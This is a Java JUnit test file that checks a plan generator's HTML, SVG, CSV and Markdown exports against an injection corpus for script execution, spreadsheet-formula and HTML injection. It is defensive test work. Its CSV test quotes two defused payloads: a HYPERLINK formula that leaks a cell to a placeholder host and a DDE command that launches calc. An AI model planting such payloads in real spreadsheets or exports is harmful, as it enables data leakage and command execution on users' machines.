package org.itup.generator.tests.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.itup.generator.GenerationOptions;
import org.itup.generator.tests.CsvRecords;
import org.itup.dsl.load.PlanLoader;
import org.itup.generator.tests.Generation;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;

/**
 * The committed injection corpus in every text field of a plan, generated as {@code itup generate} does, in every
 * format: the report and the diagrams, opened and used in a real headless Chromium, run none of it, break no
 * Content-Security-Policy rule and show every string as the literal text it is; the CSV export keeps spreadsheets
 * from running formulas and the Markdown export renders no HTML of the plan's.
 */
class InjectionCorpusTest {

	/** HTML elements a Markdown renderer makes of the export's own structure; anything else came from plan text. */
	private static final Set<String> MARKDOWN_STRUCTURE = Set.of("h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol",
			"li", "table", "thead", "tbody", "tr", "th", "td", "br", "em", "strong", "code", "pre", "blockquote",
			"hr");

	@TempDir
	static Path temp;

	private static List<String> corpus;
	private static Path out;
	@Browser
	private static ChromeDriver browser;

	@BeforeAll
	static void generate() throws Exception {
		corpus = InjectionCorpus.read();
		Path plans = Files.createDirectories(temp.resolve("plans"));
		Files.writeString(plans.resolve("inject.itup"), InjectionPlan.strategic(corpus), StandardCharsets.UTF_8);
		Files.writeString(plans.resolve("inject-2024.itup"), InjectionPlan.operational(corpus), StandardCharsets.UTF_8);
		Files.writeString(plans.resolve("inject-monitoring.itup"), InjectionPlan.monitoring(corpus),
				StandardCharsets.UTF_8);
		out = temp.resolve("out");
		// every format; a plan with errors fails here with the generator's refusal
		Generation.run(plans, out, GenerationOptions.defaults());
		ScriptProbe.install(browser);
	}

	@Test
	void everyTextFieldOfTheLanguageHoldsTheCorpus() {
		Set<String> grammar = TextFields.inGrammar();
		grammar.removeAll(TextFields.FILE_NAMES);
		grammar.removeAll(TextFields.CODE_PATTERNS);
		Set<String> uncovered = new TreeSet<>(TextFields.inMetamodel());
		uncovered.removeAll(TextFields.CODES);
		uncovered.removeAll(TextFields.FILE_NAMES);
		uncovered.removeAll(TextFields.CODE_PATTERNS);
		assertEquals(uncovered, grammar, "metamodel strings that are neither codes nor text fields of the grammar");
		Set<String> held = TextFields.holding(PlanLoader.standalone().load(List.of(temp.resolve("plans")))
				.resourceSet(), corpus);
		Set<String> missing = new TreeSet<>(grammar);
		missing.removeAll(held);
		assertEquals(Set.of(), missing, "text fields the injection plan leaves without the corpus: add them to"
				+ " InjectionPlan");
	}

	@Test
	void reportRunsNothingAndShowsEveryStringVerbatim() {
		browser.get(out.resolve("index.html").toUri().toString());
		ScriptProbe.assertNothingRan(browser, "index.html");
		assertEquals(InjectionPlan.title(corpus), browser.getTitle());
		String text = (String) browser.executeScript("return document.body.textContent;");
		List<String> notShown = corpus.stream().filter(injected -> !text.contains(injected)).toList();
		assertEquals(List.of(), notShown, "strings not shown as literal text");

		WebElement node = browser.findElement(By.cssSelector("#diagram-overall a.node"));
		browser.executeScript("arguments[0].scrollIntoView({block: 'center'})", node);
		node.click();
		browser.findElements(By.cssSelector("a.node")).stream().limit(20).forEach(each -> browser
				.executeScript("arguments[0].dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));", each));
		browser.findElement(By.id("find-code")).sendKeys("S7.1-1");
		browser.findElement(By.id("find-button")).click();
		ScriptProbe.assertNothingRan(browser, "index.html after clicking, hovering and finding");
		assertEquals(InjectionPlan.title(corpus), browser.getTitle());
	}

	@Test
	void standaloneDiagramsRunNothingAndHoldTheStringsAsText() throws IOException {
		List<String> diagrams = GeneratedReport.files(out.resolve("diagrams"));
		assertTrue(diagrams.size() > corpus.size(), "a diagram per sector and the overall one: " + diagrams);
		StringBuilder titles = new StringBuilder();
		for (String diagram : List.of("overall.svg", "sector-S1.svg", "sector-S" + corpus.size() + ".svg")) {
			browser.get(out.resolve("diagrams").resolve(diagram).toUri().toString());
			ScriptProbe.assertNothingRan(browser, diagram);
			titles.append(browser.executeScript("return document.documentElement.textContent;"));
		}
		List<String> notShown = corpus.stream().filter(injected -> !titles.toString().contains(injected)).toList();
		assertEquals(List.of(), notShown, "objective titles not held as literal text in the overall diagram");
	}

	@Test
	void csvFieldsNeverStartAFormula() throws IOException {
		List<String> fields = new ArrayList<>();
		for (String table : GeneratedReport.files(out.resolve("csv/inject"))) {
			CsvRecords.parse(Files.readString(out.resolve("csv/inject").resolve(table)))
					.forEach(fields::addAll);
		}
		List<String> formulas = fields.stream().filter(field -> field.matches("(?s)[=+\\-@\t\r].*")
				&& !field.matches("[+-]?\\d+(\\.\\d+)?")).toList();
		assertEquals(List.of(), formulas, "CSV fields a spreadsheet would run as formulas");
		assertTrue(fields.contains("'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")"), "shown as text");
		assertTrue(fields.contains("'+cmd|' /C calc'!A0"), "shown as text");
	}

	/** Indicators, budgets, resources and monitoring data carry the plan's texts too, verbatim or defused. */
	@Test
	void monitoringTablesHoldTheCorpusAsText() throws IOException {
		List<String> fields = new ArrayList<>();
		for (String table : List.of("indicators", "budget", "resources", "measurements", "spent", "assessments",
				"status")) {
			List<List<String>> rows = CsvRecords.parse(Files.readString(out.resolve("csv/inject/" + table + ".csv")));
			assertTrue(rows.size() > 1, table + " has no row");
			rows.forEach(fields::addAll);
		}
		List<String> missing = corpus.stream().filter(text -> !fields.contains(text) && !fields.contains("'" + text))
				.toList();
		assertEquals(List.of(), missing, "corpus strings in no indicator, budget, resource or monitoring table");
	}

	@Test
	void markdownRendersNoHtmlOfThePlan() throws IOException {
		String markdown = Files.readString(out.resolve("markdown/inject.md"), StandardCharsets.UTF_8);
		List<org.commonmark.Extension> tables = List.of(TablesExtension.create());
		String html = HtmlRenderer.builder().extensions(tables).build()
				.render(Parser.builder().extensions(tables).build().parse(markdown));
		Set<String> elements = new TreeSet<>();
		Matcher tag = Pattern.compile("<([a-zA-Z][a-zA-Z0-9]*)").matcher(html);
		while (tag.find()) {
			elements.add(tag.group(1).toLowerCase(java.util.Locale.ROOT));
		}
		elements.removeAll(MARKDOWN_STRUCTURE);
		assertEquals(Set.of(), elements, "HTML elements (links, images, scripts) from plan text in the rendered Markdown");
	}
}
